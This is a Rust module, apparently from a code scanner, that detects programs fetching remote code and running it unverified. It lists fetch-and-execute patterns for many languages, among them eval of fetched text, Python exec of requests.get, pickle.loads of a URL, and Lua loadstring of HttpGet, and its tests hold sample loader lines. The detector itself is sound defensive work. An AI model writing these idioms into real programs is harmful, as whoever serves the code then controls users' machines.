//! Programs that fetch code while they run, and run it: whoever serves it does what they like on the machines of all who have the program.

use super::source::{Written, dense_code};
use crate::policy::lists::holds;

/// How a language loads code that it has as bytes or as an address, without blanks, and how it gets them; one of each must stand in the text.
const LOADS: &[(&str, &str, &str)] = &[
    (
        "cs",
        "Assembly.Load(|AppDomain.CurrentDomain.Load(|Assembly.UnsafeLoadFrom(|CSharpScript.EvaluateAsync(",
        "DownloadData(|GetByteArrayAsync(|WebClient(|HttpClient|UnityWebRequest.Get(|GetStringAsync(|DownloadString(",
    ),
    (
        "java|kt|kts|groovy|scala",
        "URLClassLoader(|DexClassLoader(|InMemoryDexClassLoader(|defineClass(|GroovyShell().evaluate(|PathClassLoader(",
        "http://|https://|openStream()|HttpURLConnection|OkHttpClient|HttpClient",
    ),
    (
        "lua|luau",
        "loadstring(game:HttpGet|load(http|loadstring(http|loadstring(body|load(body|loadstring(syn|loadstring(res|load(res|assert(load(|HttpGet(",
        "HttpGet(|:HttpGetAsync(|http.request(|http.get(|PerformHttpRequest(",
    ),
    (
        "js|mjs|cjs|ts|tsx|jsx",
        "eval(await|newFunction(await|vm.runInThisContext(await|(0,eval)(await|import('http://|import(\"http://|importScripts('http://|importScripts(\"http://",
        "fetch(|axios|http://|got(|https.get",
    ),
    ("rb", "eval(URI|eval(Net::HTTP|eval(open(|instance_eval(URI|instance_eval(Net|eval(HTTP|eval(Faraday", "http"),
    (
        "php",
        "eval(file_get_contents('http|eval(file_get_contents(\"http|include'http|include\"http|require'http|eval(\"?>\".file_get_contents|eval('?>'.file_get_contents|include('http|include(\"http",
        "http",
    ),
    ("go", "plugin.Open(|yaegi|goja", "http.Get("),
    (
        "swift|m|mm|c|cc|cpp|rs",
        "dlopen(|Library::new(|LoadLibrary",
        "http://|curl_easy_perform|URLSession|reqwest::|dataWithContentsOfURL|URLDownloadToFile",
    ),
    ("gd", "load_resource_pack(|GDScript.new()|.source_code=", "HTTPRequest|HTTPClient"),
    (
        "py",
        "exec(requests.get(|exec(urlopen(|exec(urllib|exec(httpx.get(|eval(requests.get(|exec(compile(requests.get(|marshal.loads(requests|\
            pickle.loads(requests.get(|pickle.loads(urlopen|pickle.load(urlopen|exec(urllib.request.urlopen",
        "http|request|url",
    ),
];

/// What a program does before it believes what it fetched.
const VERIFIES: &str = "verify|Verify|signature|Signature|sha256|SHA256|Sha256|checksum|Checksum|StrongName|PublicKeyToken|ed25519|integrity|\
    VerifyHash|digest|X509";

/// Whether a text runs what it fetches without a look at who made it, where the text before it did not.
pub(super) fn are_unread(written: &Written<'_>) -> bool {
    let Some((_, loads, gets)) = LOADS.iter().find(|(forms, ..)| written.is_form(forms)) else { return false };
    written.holds(gets)
        && !written.is_tried()
        && written.gains(|text| holds(&dense_code(text), loads) && !holds(text, VERIFIES))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_that_is_fetched_and_run_is_seen() {
        for (name, text, unread) in [
            ("Mods.cs", "var raw = new WebClient().DownloadData(url);\nvar a = Assembly.Load(raw);", true),
            ("Mods.cs", "var a = Assembly.Load(\"Shop.Core\");", false),
            ("Mods.cs", "var raw = client.DownloadData(url);\nVerifySignature(raw);\nAssembly.Load(raw);", false),
            ("Mods.java", "new URLClassLoader(new URL[] { new URL(\"http://mods.example/a.jar\") });", true),
            ("boot.lua", "loadstring(game:HttpGet('https://x.example/a.lua'))()", true),
            ("a.ts", "const m = await import('./local');\nawait fetch('/api');", false),
            ("a.ts", "eval(await (await fetch(url)).text());", true),
        ] {
            assert_eq!(
                are_unread(&Written::of(text, None, &format!("/home/you/work/shop/src/{name}"))),
                unread,
                "{text}"
            );
        }
    }
}
